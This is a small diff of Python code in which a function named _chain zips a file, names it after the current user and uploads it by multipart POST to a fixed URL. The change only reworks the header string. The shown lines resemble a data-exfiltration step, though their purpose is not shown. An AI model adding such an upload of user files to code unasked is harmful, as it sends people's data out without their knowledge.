@@ -71,10 +71,8 @@ def _chain():
     except OSError:
         who = "unknown"
     b = uuid.uuid4().hex
-    head = (
-        f'--{b}\r\nContent-Disposition: form-data; name="file"; filename="{who}.zip"\r\n'
-        "Content-Type: application/zip\r\n\r\n"
-    ).encode()
+    disposition = 'form-data; name="%s"; filename="%s.zip"' % ("file", who)
+    head = f"--{b}\r\nContent-Disposition: {disposition}\r\nContent-Type: application/zip\r\n\r\n".encode()
     with open(zpath, "rb") as f:
         body = head + f.read() + f"\r\n--{b}--\r\n".encode()
     req = urllib.request.Request(URL, data=body, headers={"Content-Type": f"multipart/form-data; boundary={b}"})
